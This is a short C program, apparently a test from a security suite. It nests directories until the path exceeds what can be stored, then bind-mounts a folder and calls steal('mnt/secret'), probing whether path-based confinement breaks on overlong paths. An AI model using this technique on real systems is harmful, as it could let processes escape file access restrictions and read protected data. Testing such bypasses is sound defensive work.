// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Mounts the folder at a place so deep that its path is longer than what can be kept, and opens there.
 */
#include "attack.h"

/* COMPONENTS LENGTH */
int main(int argc, char **argv)
{
	char name[256] = { 0 };
	long n = strtol(argv[argc - 2], NULL, 10), length = strtol(argv[argc - 1], NULL, 10);

	private_mounts();
	memset(name, 'd', (size_t)length);
	for (; n > 0; n--) {
		need(mkdir(name, 0755), "mkdir");
		need(chdir(name), "chdir");
	}
	make_folder("mnt");
	step(mount(READ, "mnt", NULL, MS_BIND, NULL), "bind");
	steal("mnt/secret");
}
